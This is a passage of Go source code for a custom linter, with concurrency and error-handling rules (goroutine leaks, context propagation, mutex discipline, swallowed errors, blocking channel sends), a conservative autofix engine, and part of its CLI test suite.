// targets the inner construct, not this loop — `for { select { case <-ch:
// break } }` does NOT exit, the classic leak).
func loopHasExit(loop *ast.ForStmt) bool {
	exit := false
	// depth counts break-target nesting below the loop
	var walk func(n ast.Stmt, depth int)
	walkBody := func(list []ast.Stmt, depth int) {
		for _, s := range list {
			walk(s, depth)
		}
	}
	walk = func(n ast.Stmt, depth int) {
		if exit || n == nil {
			return
		}
		switch x := n.(type) {
		case *ast.ReturnStmt:
			exit = true
		case *ast.BranchStmt:
			switch x.Tok {
			case token.BREAK:
				if x.Label != nil || depth == 0 {
					exit = true
				}
			case token.GOTO:
				exit = true
			}
		case *ast.ExprStmt:
			if terminatesProcess(x.X) {
				exit = true
			}
		case *ast.BlockStmt:
			walkBody(x.List, depth)
		case *ast.IfStmt:
			walk(x.Body, depth)
			walk(x.Else, depth)
		case *ast.ForStmt:
			walk(x.Body, depth+1)
		case *ast.RangeStmt:
			walk(x.Body, depth+1)
		case *ast.SwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					walkBody(cc.Body, depth+1)
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					walkBody(cc.Body, depth+1)
				}
			}
		case *ast.SelectStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CommClause); ok {
					walkBody(cc.Body, depth+1)
				}
			}
		case *ast.LabeledStmt:
			walk(x.Stmt, depth)
		}
	}
	walkBody(loop.Body.List, 0)
	return exit
}

// terminatesProcess reports whether a call never returns control: panic, or
// a selector ending in Exit/Fatal/Fatalf.
func terminatesProcess(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	switch fn := call.Fun.(type) {
	case *ast.Ident:
		return fn.Name == "panic"
	case *ast.SelectorExpr:
		switch fn.Sel.Name {
		case "Exit", "Fatal", "Fatalf":
			return true
		}
	}
	return false
}

// collectMutexWrites classifies every field write in one method of a
// mutex-guarded struct as locked or unlocked. The walk tracks lock state in
// statement order: recv.mu.Lock()/RLock() locks, recv.mu.Unlock()/RUnlock()
// unlocks, and a deferred unlock keeps the state locked to the end. Methods
// whose name ends in "Locked" are by convention called with the lock held.
func collectMutexWrites(fd *ast.FuncDecl, sf *MutexStructFact) {
	if fd.Recv == nil || len(fd.Recv.List) == 0 || len(fd.Recv.List[0].Names) == 0 {
		return
	}
	recv := fd.Recv.List[0].Names[0].Name
	if recv == "_" {
		return
	}
	mutexes := map[string]bool{}
	for _, m := range sf.MutexFields {
		mutexes[m] = true
	}
	locked := false
	if len(fd.Name.Name) > len("Locked") && fd.Name.Name[len(fd.Name.Name)-len("Locked"):] == "Locked" {
		locked = true
	}
	var walkStmts func(list []ast.Stmt, locked bool) bool
	record := func(e ast.Expr, locked bool) {
		sel, ok := e.(*ast.SelectorExpr)
		if !ok {
			// element writes: recv.field[k] = v
			if idx, ok2 := e.(*ast.IndexExpr); ok2 {
				sel, ok = idx.X.(*ast.SelectorExpr)
			}
			if !ok {
				return
			}
		}
		id, ok := sel.X.(*ast.Ident)
		if !ok || id.Name != recv || mutexes[sel.Sel.Name] {
			return
		}
		sf.Writes[sel.Sel.Name] = append(sf.Writes[sel.Sel.Name],
			WriteSite{Pos: sel.Pos(), Locked: locked, Method: fd.Name.Name})
	}
	lockCall := func(s ast.Stmt) (mutex, op string) {
		var call *ast.CallExpr
		switch x := s.(type) {
		case *ast.ExprStmt:
			call, _ = x.X.(*ast.CallExpr)
		case *ast.DeferStmt:
			call = x.Call
		}
		if call == nil {
			return "", ""
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return "", ""
		}
		inner, ok := sel.X.(*ast.SelectorExpr)
		if !ok {
			return "", ""
		}
		id, ok := inner.X.(*ast.Ident)
		if !ok || id.Name != recv || !mutexes[inner.Sel.Name] {
			return "", ""
		}
		return inner.Sel.Name, sel.Sel.Name
	}
	var walkStmt func(s ast.Stmt, locked bool) bool
	walkStmt = func(s ast.Stmt, locked bool) bool {
		switch x := s.(type) {
		case *ast.AssignStmt:
			for _, l := range x.Lhs {
				record(l, locked)
			}
		case *ast.IncDecStmt:
			record(x.X, locked)
		case *ast.ExprStmt, *ast.DeferStmt:
			if _, op := lockCall(s); op != "" {
				switch op {
				case "Lock", "RLock":
					return true
				case "Unlock", "RUnlock":
					if _, isDefer := s.(*ast.DeferStmt); isDefer {
						return locked // deferred unlock: held until exit
					}
					return false
				}
			}
		case *ast.BlockStmt:
			return walkStmts(x.List, locked)
		case *ast.IfStmt:
			if x.Init != nil {
				locked = walkStmt(x.Init, locked)
			}
			walkStmts(x.Body.List, locked)
			if x.Else != nil {
				walkStmt(x.Else, locked)
			}
		case *ast.ForStmt:
			walkStmts(x.Body.List, locked)
		case *ast.RangeStmt:
			walkStmts(x.Body.List, locked)
		case *ast.SwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					walkStmts(cc.Body, locked)
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					walkStmts(cc.Body, locked)
				}
			}
		case *ast.SelectStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CommClause); ok {
					walkStmts(cc.Body, locked)
				}
			}
		case *ast.LabeledStmt:
			return walkStmt(x.Stmt, locked)
		}
		return locked
	}
	walkStmts = func(list []ast.Stmt, locked bool) bool {
		for _, s := range list {
			locked = walkStmt(s, locked)
		}
		return locked
	}
	walkStmts(fd.Body.List, locked)
}
