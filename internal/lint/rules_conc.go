package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// --- goroutineleak ----------------------------------------------------------

// checkGoroutineLeak flags `go` statements whose body (a literal, or the
// package-local function/method being started — resolved through the fact
// store) loops forever with no exit path at all: no return, no break that
// targets the loop, no panic. Such a goroutine cannot be shut down by any
// done channel, context or WaitGroup, because nothing in it ever looks.
func checkGoroutineLeak(p *Pass) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			gs, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			switch fn := gs.Call.Fun.(type) {
			case *ast.FuncLit:
				if loop := findInfiniteNoExitLoop(fn.Body); loop != nil {
					p.Report("goroutineleak", loop.Pos(),
						"goroutine loops forever with no exit path (no return, break or panic); nothing can ever stop it — add a done/ctx arm to the loop")
				}
			case *ast.Ident:
				if ff := p.Facts.Funcs[fn.Name]; ff != nil && ff.InfiniteLoopNoExit {
					p.Report("goroutineleak", gs.Pos(),
						fmt.Sprintf("go %s starts a loop with no exit path (no return, break or panic); nothing can ever stop it — add a done/ctx arm to the loop", fn.Name))
				}
			case *ast.SelectorExpr:
				if p.SelPkg(f, fn) != "" {
					return true // cross-package call: no facts, stay silent
				}
				if ff := p.methodFact(fn); ff != nil && ff.InfiniteLoopNoExit {
					p.Report("goroutineleak", gs.Pos(),
						fmt.Sprintf("go %s starts a loop with no exit path (no return, break or panic); nothing can ever stop it — add a done/ctx arm to the loop", fn.Sel.Name))
				}
			}
			return true
		})
	}
}

// methodFact resolves x.Sel to a same-package method's facts: by the
// receiver's resolved type name when the checker typed it, else by unique
// method name across the fact store.
func (p *Pass) methodFact(sel *ast.SelectorExpr) *FuncFact {
	if t := p.TypeOf(sel.X); t != nil {
		if name := namedTypeName(t); name != "" {
			return p.Facts.Funcs[funcKey(name, sel.Sel.Name)]
		}
	}
	var match *FuncFact
	for _, ff := range p.Facts.Funcs {
		if ff.RecvType != "" && ff.Decl.Name.Name == sel.Sel.Name {
			if match != nil {
				return nil // ambiguous
			}
			match = ff
		}
	}
	return match
}

func namedTypeName(t types.Type) string {
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name()
	}
	return ""
}

// --- ctxpropagate -----------------------------------------------------------

// ctxFreeHTTP are the net/http package helpers with no context parameter.
var ctxFreeHTTP = map[string]bool{"Get": true, "Head": true, "Post": true, "PostForm": true}

// checkCtxPropagate flags context-free blocking inside functions that were
// handed a context.Context: time.Sleep, the bare net/http helpers, and bare
// channel receives outside any select. Each one ignores the cancellation the
// caller threaded through — the crawl's watchdog fires and the worker keeps
// sitting there.
func checkCtxPropagate(p *Pass) {
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		if !hasCtxParam(p, f, fd.Type) {
			return
		}
		// collect the comm operations of every select: those receives are the
		// legal shape (they can sit next to a ctx.Done() arm)
		inSelect := map[ast.Node]bool{}
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectStmt)
			if !ok {
				return true
			}
			for _, c := range sel.Body.List {
				if cc, ok := c.(*ast.CommClause); ok && cc.Comm != nil {
					ast.Inspect(cc.Comm, func(m ast.Node) bool {
						if u, ok := m.(*ast.UnaryExpr); ok && u.Op == token.ARROW {
							inSelect[u] = true
						}
						return true
					})
				}
			}
			return true
		})
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.CallExpr:
				sel, ok := x.Fun.(*ast.SelectorExpr)
				if !ok {
					return true
				}
				switch pkg := p.SelPkg(f, sel); {
				case pkg == "time" && sel.Sel.Name == "Sleep":
					p.Report("ctxpropagate", x.Pos(),
						"time.Sleep ignores the ctx this function was handed; use a timer in a select with ctx.Done()")
				case pkg == "net/http" && ctxFreeHTTP[sel.Sel.Name]:
					p.Report("ctxpropagate", x.Pos(),
						"http."+sel.Sel.Name+" cannot carry the ctx this function was handed; build the request with http.NewRequestWithContext")
				}
			case *ast.UnaryExpr:
				if x.Op != token.ARROW || inSelect[x] {
					return true
				}
				if isDoneRecv(x.X) {
					return true // <-ctx.Done() IS the cancellation wait
				}
				p.Report("ctxpropagate", x.Pos(),
					"bare channel receive blocks forever if the sender dies; select on it together with ctx.Done()")
			}
			return true
		})
	})
}

// hasCtxParam reports whether the function signature takes a context.Context.
func hasCtxParam(p *Pass, f *ast.File, ft *ast.FuncType) bool {
	if ft.Params == nil {
		return false
	}
	for _, fld := range ft.Params.List {
		t := fld.Type
		if sel, ok := t.(*ast.SelectorExpr); ok &&
			p.SelPkg(f, sel) == "context" && sel.Sel.Name == "Context" {
			return true
		}
	}
	return false
}

// isDoneRecv reports whether e is a X.Done() call — the ctx cancellation
// channel itself.
func isDoneRecv(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	return ok && sel.Sel.Name == "Done"
}

// --- lockedmutate ------------------------------------------------------------

// checkLockedMutate consumes the mutex-struct facts: a field written both
// while holding the struct's mutex and without it has no consistent locking
// discipline — the unlocked site races every locked one.
func checkLockedMutate(p *Pass) {
	names := make([]string, 0, len(p.Facts.MutexStructs))
	for n := range p.Facts.MutexStructs {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		sf := p.Facts.MutexStructs[n]
		fields := make([]string, 0, len(sf.Writes))
		for fld := range sf.Writes {
			fields = append(fields, fld)
		}
		sort.Strings(fields)
		for _, fld := range fields {
			sites := sf.Writes[fld]
			lockedIn := map[string]bool{}
			anyLocked := false
			for _, s := range sites {
				if s.Locked {
					anyLocked = true
					lockedIn[s.Method] = true
				}
			}
			if !anyLocked {
				continue // never guarded: a different (or no) discipline
			}
			var methods []string
			for m := range lockedIn {
				methods = append(methods, m)
			}
			sort.Strings(methods)
			for _, s := range sites {
				if !s.Locked {
					p.Report("lockedmutate", s.Pos,
						fmt.Sprintf("%s.%s is written here without the lock, but %s writes it under %s.%s; every write site must agree on the locking discipline",
							sf.Name, fld, strings.Join(methods, "/"), sf.Name, sf.MutexFields[0]))
				}
			}
		}
	}
}

// --- errswallow --------------------------------------------------------------

// checkErrSwallow flags silently vanishing errors: a statement-position call
// whose sole result is an error (outside closecheck's Close/Sync/Flush
// domain, which has its own rule), and a `_ =` / `_, _ =` discard of an
// error-returning call with no adjacent comment saying why the failure does
// not matter. An invisible failure is a false measurement — the exact
// gullibility the paper's crawls suffered.
func checkErrSwallow(p *Pass) {
	for _, f := range p.Files {
		commentLines := map[int]bool{}
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				commentLines[p.Fset.Position(c.Pos()).Line] = true
			}
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.ExprStmt:
				call, ok := x.X.(*ast.CallExpr)
				if !ok {
					return true
				}
				if sel, ok := call.Fun.(*ast.SelectorExpr); ok {
					if closeNames[sel.Sel.Name] {
						return true // closecheck's domain
					}
					if isInfallibleWriter(p, sel.X) {
						return true // strings.Builder/bytes.Buffer never fail
					}
				}
				if callReturnsError(p, call) {
					p.Report("errswallow", x.Pos(),
						"error result dropped at statement position; check it, or discard visibly with `_ =` and a comment saying why")
				}
			case *ast.AssignStmt:
				if x.Tok != token.ASSIGN || !allBlank(x.Lhs) || len(x.Rhs) != 1 {
					return true
				}
				call, ok := x.Rhs[0].(*ast.CallExpr)
				if !ok || !callYieldsError(p, call) {
					return true
				}
				if sel, ok := call.Fun.(*ast.SelectorExpr); ok && closeNames[sel.Sel.Name] {
					return true // `_ = f.Close()` is closecheck's legal visible discard
				}
				line := p.Fset.Position(x.Pos()).Line
				if commentLines[line] || commentLines[line-1] {
					return true // visibly discarded with a written reason
				}
				p.Report("errswallow", x.Pos(),
					"`_ =` discards an error with no justifying comment; write down why this failure does not matter (same line or the line above)")
			}
			return true
		})
	}
}

func allBlank(exprs []ast.Expr) bool {
	for _, e := range exprs {
		id, ok := e.(*ast.Ident)
		if !ok || id.Name != "_" {
			return false
		}
	}
	return len(exprs) > 0
}

// isInfallibleWriter reports whether e is a strings.Builder or bytes.Buffer
// value: their Write* methods return an error by interface contract but are
// documented never to fail, the canonical errcheck exclusion.
func isInfallibleWriter(p *Pass, e ast.Expr) bool {
	t := p.TypeOf(e)
	if t == nil {
		return false
	}
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok || n.Obj().Pkg() == nil {
		return false
	}
	pkg, name := n.Obj().Pkg().Path(), n.Obj().Name()
	return (pkg == "strings" && name == "Builder") || (pkg == "bytes" && name == "Buffer")
}

// callYieldsError reports whether call's result is an error or a tuple whose
// last element is an error. Untyped calls (lenient-importer gaps) are skipped.
func callYieldsError(p *Pass, call *ast.CallExpr) bool {
	tv, ok := p.Info.Types[call]
	if !ok || tv.Type == nil {
		return false
	}
	if tv.Type.String() == "error" {
		return true
	}
	if tup, ok := tv.Type.(*types.Tuple); ok && tup.Len() > 0 {
		return tup.At(tup.Len()-1).Type().String() == "error"
	}
	return false
}

// --- chanbuffer --------------------------------------------------------------

// checkChanBuffer flags blocking channel sends inside a loop and outside any
// select. Once the consumer stops draining, the producer parks on the send
// forever — fan-out paths (the SSE event hub) must use a select with a
// default or cancel arm, or a buffered channel sized to the burst.
func checkChanBuffer(p *Pass) {
	p.EachFuncDecl(func(_ *ast.File, fd *ast.FuncDecl) {
		checkSendsIn(p, fd.Body.List, false)
	})
}

// checkSendsIn walks statements tracking loop depth; a SendStmt met with
// inLoop set is a finding. Select comm clauses are the legal shape and their
// comm send is skipped (a send in a clause *body* is still checked). Closures
// restart with their own loop context.
func checkSendsIn(p *Pass, stmts []ast.Stmt, inLoop bool) {
	var walk func(s ast.Stmt, inLoop bool)
	walkExprs := func(s ast.Stmt) {
		ast.Inspect(s, func(n ast.Node) bool {
			if fl, ok := n.(*ast.FuncLit); ok {
				checkSendsIn(p, fl.Body.List, false)
				return false
			}
			return true
		})
	}
	walk = func(s ast.Stmt, inLoop bool) {
		switch x := s.(type) {
		case *ast.SendStmt:
			if inLoop {
				p.Report("chanbuffer", x.Pos(),
					"blocking send inside a loop and outside any select; a stopped consumer stalls this producer forever — use a select with a default/cancel arm")
			}
		case *ast.BlockStmt:
			for _, st := range x.List {
				walk(st, inLoop)
			}
		case *ast.IfStmt:
			if x.Init != nil {
				walk(x.Init, inLoop)
			}
			walk(x.Body, inLoop)
			if x.Else != nil {
				walk(x.Else, inLoop)
			}
		case *ast.ForStmt:
			walk(x.Body, true)
		case *ast.RangeStmt:
			walk(x.Body, true)
		case *ast.SwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					for _, st := range cc.Body {
						walk(st, inLoop)
					}
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					for _, st := range cc.Body {
						walk(st, inLoop)
					}
				}
			}
		case *ast.SelectStmt:
			for _, c := range x.Body.List {
				if cc, ok := c.(*ast.CommClause); ok {
					// cc.Comm (the send/recv itself) is select-guarded: skip it
					for _, st := range cc.Body {
						walk(st, inLoop)
					}
				}
			}
		case *ast.LabeledStmt:
			walk(x.Stmt, inLoop)
		case *ast.GoStmt, *ast.DeferStmt, *ast.ExprStmt, *ast.AssignStmt, *ast.DeclStmt, *ast.ReturnStmt:
			walkExprs(s)
		}
	}
	for _, s := range stmts {
		walk(s, inLoop)
	}
}
