package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"os"
	"sort"

	"gullible/internal/lint/cfg"
)

// An edit is one byte-range replacement in a source file's content;
// insertions use start == end. Edits in one file are applied back-to-front so
// earlier offsets stay valid.
type edit struct {
	start, end int
	text       string
}

// FixDirs applies wpmlint's mechanical autofixes to the packages in dirs and
// returns the rewritten file paths, sorted. Two fixes exist, both chosen
// because the repair is unambiguous:
//
//   - maprange: a canonical encoder serialising while ranging a string-keyed
//     map is rewritten to collect the keys, sort.Strings them, and range the
//     sorted slice (adding the "sort" import when missing).
//   - spanpair: a span id that is begun but never passed to End gains a
//     `defer recv.End(span, name, at)` immediately after the Begin.
//
// Fixes are conservative: a site is only rewritten when the ranged expression
// and the Begin receiver/arguments are side-effect-free to repeat, so the
// rewrite cannot change behaviour. Everything else stays a finding for a
// human. Output is not re-formatted; run gofmt after a fix run.
func FixDirs(dirs []string, opts Options) ([]string, error) {
	var fixed []string
	for _, dir := range dirs {
		passes, err := loadDir(dir, opts)
		if err != nil {
			return nil, err
		}
		fx := &fixer{
			srcs:     map[string][]byte{},
			edits:    map[string][]edit{},
			sortDone: map[string]bool{},
		}
		for _, p := range passes {
			fx.p = p
			fx.collectMaprange()
			fx.collectSpanDefers()
		}
		paths := make([]string, 0, len(fx.edits))
		for path := range fx.edits {
			paths = append(paths, path)
		}
		sort.Strings(paths)
		for _, path := range paths {
			src := fx.src(path)
			if src == nil {
				return nil, fmt.Errorf("lint: fix: reread %s failed", path)
			}
			if err := os.WriteFile(path, applyEdits(src, fx.edits[path]), 0o644); err != nil {
				return nil, fmt.Errorf("lint: fix: %w", err)
			}
			fixed = append(fixed, path)
		}
	}
	sort.Strings(fixed)
	return fixed, nil
}

func applyEdits(src []byte, edits []edit) []byte {
	sort.Slice(edits, func(i, j int) bool { return edits[i].start > edits[j].start })
	out := src
	for _, e := range edits {
		var buf []byte
		buf = append(buf, out[:e.start]...)
		buf = append(buf, e.text...)
		buf = append(buf, out[e.end:]...)
		out = buf
	}
	return out
}

// fixer accumulates edits across one directory's passes, caching file
// contents (needed both to splice expression text into generated code and to
// compute line indentation).
type fixer struct {
	p        *Pass
	srcs     map[string][]byte
	edits    map[string][]edit
	sortDone map[string]bool // files already gaining a "sort" import
}

func (fx *fixer) src(path string) []byte {
	if s, ok := fx.srcs[path]; ok {
		return s
	}
	s, err := os.ReadFile(path)
	if err != nil {
		s = nil
	}
	fx.srcs[path] = s
	return s
}

// offsetOf resolves a token position to (file path, byte offset).
func (fx *fixer) offsetOf(pos token.Pos) (string, int) {
	p := fx.p.Fset.Position(pos)
	return p.Filename, p.Offset
}

// exprText returns an expression's source text, "" when unavailable.
func (fx *fixer) exprText(e ast.Expr) string {
	path, a := fx.offsetOf(e.Pos())
	_, b := fx.offsetOf(e.End())
	s := fx.src(path)
	if s == nil || a < 0 || b > len(s) || a > b {
		return ""
	}
	return string(s[a:b])
}

// lineIndent returns the leading whitespace of the line containing offset.
func lineIndent(src []byte, off int) string {
	start := off
	for start > 0 && src[start-1] != '\n' {
		start--
	}
	end := start
	for end < len(src) && (src[end] == ' ' || src[end] == '\t') {
		end++
	}
	return string(src[start:end])
}

// lineEnd returns the offset of the newline terminating the line containing
// offset (or len(src)).
func lineEnd(src []byte, off int) int {
	for off < len(src) && src[off] != '\n' {
		off++
	}
	return off
}

// pureExpr reports whether repeating e cannot run side effects: identifiers,
// selector chains and literals only.
func pureExpr(e ast.Expr) bool {
	switch x := e.(type) {
	case *ast.Ident, *ast.BasicLit:
		return true
	case *ast.SelectorExpr:
		return pureExpr(x.X)
	}
	return false
}

// --- maprange: collect keys, sort, range the slice --------------------------

func (fx *fixer) collectMaprange() {
	p := fx.p
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		if !canonicalFunc(fd.Name.Name) {
			return
		}
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			rs, ok := n.(*ast.RangeStmt)
			if !ok || !mapRangeSerialises(p, rs) {
				return true
			}
			fx.maprangeEdit(f, fd, rs)
			return true
		})
	})
}

func (fx *fixer) maprangeEdit(f *ast.File, fd *ast.FuncDecl, rs *ast.RangeStmt) {
	// the rewrite repeats the ranged expression three times, so it must be
	// pure; the key must be a named ident and the map string-keyed (otherwise
	// sort.Strings does not apply)
	if rs.Tok != token.DEFINE || !pureExpr(rs.X) {
		return
	}
	key, ok := rs.Key.(*ast.Ident)
	if !ok || key.Name == "_" {
		return
	}
	var val *ast.Ident
	if rs.Value != nil {
		if v, ok := rs.Value.(*ast.Ident); ok && v.Name != "_" {
			val = v
		} else if !ok {
			return
		}
	}
	mt, ok := fx.p.TypeOf(rs.X).Underlying().(*types.Map)
	if !ok {
		return
	}
	if b, ok := mt.Key().Underlying().(*types.Basic); !ok || b.Kind() != types.String {
		return
	}
	keys := "keys"
	if cfg.ContainsIdent(fd.Body, keys) {
		keys = "sortedKeys"
		if cfg.ContainsIdent(fd.Body, keys) {
			return // both candidate names taken: leave it to a human
		}
	}
	path, start := fx.offsetOf(rs.Pos())
	_, lbrace := fx.offsetOf(rs.Body.Lbrace)
	src := fx.src(path)
	if src == nil || lbrace+1 > len(src) {
		return
	}
	ind := lineIndent(src, start)
	m := fx.exprText(rs.X)
	if m == "" {
		return
	}
	text := keys + " := make([]string, 0, len(" + m + "))\n" +
		ind + "for " + key.Name + " := range " + m + " {\n" +
		ind + "\t" + keys + " = append(" + keys + ", " + key.Name + ")\n" +
		ind + "}\n" +
		ind + "sort.Strings(" + keys + ")\n" +
		ind + "for _, " + key.Name + " := range " + keys + " {"
	if val != nil {
		text += "\n" + ind + "\t" + val.Name + " := " + m + "[" + key.Name + "]"
	}
	fx.edits[path] = append(fx.edits[path], edit{start: start, end: lbrace + 1, text: text})
	fx.ensureSortImport(f, path)
}

// ensureSortImport schedules an import of "sort" into file f when missing.
func (fx *fixer) ensureSortImport(f *ast.File, path string) {
	if fx.sortDone[path] {
		return
	}
	for _, ip := range fx.p.FileImports(f) {
		if ip == "sort" {
			return
		}
	}
	fx.sortDone[path] = true
	for _, d := range f.Decls {
		gd, ok := d.(*ast.GenDecl)
		if ok && gd.Tok == token.IMPORT && gd.Lparen.IsValid() {
			_, off := fx.offsetOf(gd.Lparen)
			fx.edits[path] = append(fx.edits[path], edit{start: off + 1, end: off + 1, text: "\n\t\"sort\""})
			return
		}
	}
	// no parenthesised import block: add a standalone one after the package
	// clause (always syntactically valid, even alongside other imports)
	_, off := fx.offsetOf(f.Name.End())
	fx.edits[path] = append(fx.edits[path], edit{start: off, end: off, text: "\n\nimport \"sort\""})
}

// --- spanpair: insert the missing deferred End ------------------------------

func (fx *fixer) collectSpanDefers() {
	p := fx.p
	if p.Pkg == "telemetry" {
		return
	}
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			if _, ok := n.(*ast.FuncLit); ok {
				return false // closures: report-only, no autofix
			}
			as, ok := n.(*ast.AssignStmt)
			if !ok || as.Tok != token.DEFINE || len(as.Lhs) != 1 || len(as.Rhs) != 1 || !p.isBeginCall(f, as.Rhs[0]) {
				return true
			}
			id, ok := as.Lhs[0].(*ast.Ident)
			if !ok || id.Name == "_" {
				return true
			}
			if hasEnd, escapes := p.classifySpanUses(f, fd.Body, id.Name); hasEnd || escapes {
				return true
			}
			fx.spanDeferEdit(as, id.Name)
			return true
		})
	})
}

func (fx *fixer) spanDeferEdit(as *ast.AssignStmt, span string) {
	call := as.Rhs[0].(*ast.CallExpr)
	sel := call.Fun.(*ast.SelectorExpr)
	// the defer repeats the receiver and Begin's name/at arguments; require
	// them side-effect-free to repeat (defer arguments evaluate immediately,
	// so even then each is evaluated one extra time)
	if !pureExpr(sel.X) || len(call.Args) < 1 || !pureExpr(call.Args[0]) {
		return
	}
	at := "0"
	if len(call.Args) >= 3 {
		if !pureExpr(call.Args[2]) {
			return
		}
		at = fx.exprText(call.Args[2])
	}
	recv := fx.exprText(sel.X)
	name := fx.exprText(call.Args[0])
	if recv == "" || name == "" || at == "" {
		return
	}
	path, off := fx.offsetOf(as.End())
	src := fx.src(path)
	if src == nil {
		return
	}
	ins := lineEnd(src, off)
	text := "\n" + lineIndent(src, off) + "defer " + recv + ".End(" + span + ", " + name + ", " + at + ")"
	fx.edits[path] = append(fx.edits[path], edit{start: ins, end: ins, text: text})
}
