package lint

import (
	"bytes"
	"flag"
	"go/token"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var updateGolden = flag.Bool("update", false, "rewrite golden output files")

func runMain(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code = Main(args, &out, &errOut)
	return code, out.String(), errOut.String()
}

// TestDriverExitCodes pins the CLI contract scripts build on: 0 clean,
// 1 findings, 2 usage, 3 load failure. The 1-vs-3 split is the bugfix this
// PR carries — a linter that cannot load its target must not look clean OR
// look like a usage mistake.
func TestDriverExitCodes(t *testing.T) {
	cases := []struct {
		name string
		args []string
		want int
	}{
		{"clean", []string{"cfg"}, 0},
		{"findings", []string{"testdata/src/bad"}, 1},
		{"unknown rule", []string{"-rules", "nope", "cfg"}, 2},
		{"unknown format", []string{"-format", "yaml", "cfg"}, 2},
		{"update without baseline", []string{"-update-baseline", "cfg"}, 2},
		{"missing package", []string{"testdata/src/no-such-pkg"}, 3},
		{"missing pattern root", []string{"testdata/src/no-such-pkg/..."}, 3},
		{"go-free directory", []string{"testdata"}, 3},
	}
	for _, c := range cases {
		code, _, errOut := runMain(t, c.args...)
		if code != c.want {
			t.Errorf("%s: exit %d, want %d (stderr: %s)", c.name, code, c.want, errOut)
		}
	}
}

// TestGoldenOutput locks the machine-readable formats byte-for-byte against
// committed goldens (regenerate with `go test -run TestGoldenOutput -update`).
// The SARIF golden doubles as the schema reference verify.sh smokes against.
func TestGoldenOutput(t *testing.T) {
	for _, c := range []struct{ format, golden string }{
		{"sarif", "testdata/golden/bad.sarif"},
		{"json", "testdata/golden/bad.json"},
	} {
		code, out, errOut := runMain(t, "-format", c.format, "testdata/src/bad")
		if code != 1 {
			t.Fatalf("%s: exit %d, want 1 (stderr: %s)", c.format, code, errOut)
		}
		if *updateGolden {
			if err := os.WriteFile(c.golden, []byte(out), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(c.golden)
		if err != nil {
			t.Fatalf("%s: %v (run with -update to generate)", c.format, err)
		}
		if out != string(want) {
			t.Errorf("%s output drifted from %s (run with -update after a deliberate change)\ngot:\n%s", c.format, c.golden, out)
		}
	}
}

// TestBaselineRoundTrip drives the debt workflow end to end: record the bad
// fixture's findings as tolerated, re-lint clean against the baseline, and
// check the baseline does not bleed onto findings it never recorded.
func TestBaselineRoundTrip(t *testing.T) {
	bp := filepath.Join(t.TempDir(), "baseline.json")
	if code, _, errOut := runMain(t, "-baseline", bp, "-update-baseline", "testdata/src/bad"); code != 0 {
		t.Fatalf("update-baseline: exit %d (stderr: %s)", code, errOut)
	}
	code, out, errOut := runMain(t, "-baseline", bp, "testdata/src/bad")
	if code != 0 || out != "" {
		t.Errorf("baselined run: exit %d stdout %q (stderr: %s); want clean", code, out, errOut)
	}
	if code, _, _ := runMain(t, "-baseline", bp, "testdata/src/suppressed"); code != 1 {
		t.Errorf("baseline suppressed findings it never recorded (exit %d, want 1)", code)
	}
}

// TestBaselineIgnoresLineNumbers pins the matching rule: entries tolerate a
// finding wherever it moved to, but a second identical violation still fails.
func TestBaselineIgnoresLineNumbers(t *testing.T) {
	b := &Baseline{counts: map[baselineKey]int{
		{Rule: "wallclock", File: "x/y.go", Msg: "m"}: 1,
	}}
	left := b.Filter([]Finding{
		{Rule: "wallclock", Pos: token.Position{Filename: "x/y.go", Line: 99}, Msg: "m"},
		{Rule: "wallclock", Pos: token.Position{Filename: "x/y.go", Line: 120}, Msg: "m"},
	})
	if len(left) != 1 {
		t.Fatalf("filter left %d findings, want 1 (one absorbed, the duplicate kept)", len(left))
	}
}

// TestFixRewrites copies the fixable fixture aside, runs -fix, and checks the
// rewritten package lints clean with the expected repairs in place.
func TestFixRewrites(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "fixable")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	src, err := os.ReadFile("testdata/src/fixable/f.go")
	if err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(dir, "f.go")
	if err := os.WriteFile(target, src, 0o644); err != nil {
		t.Fatal(err)
	}
	// before: both violations present
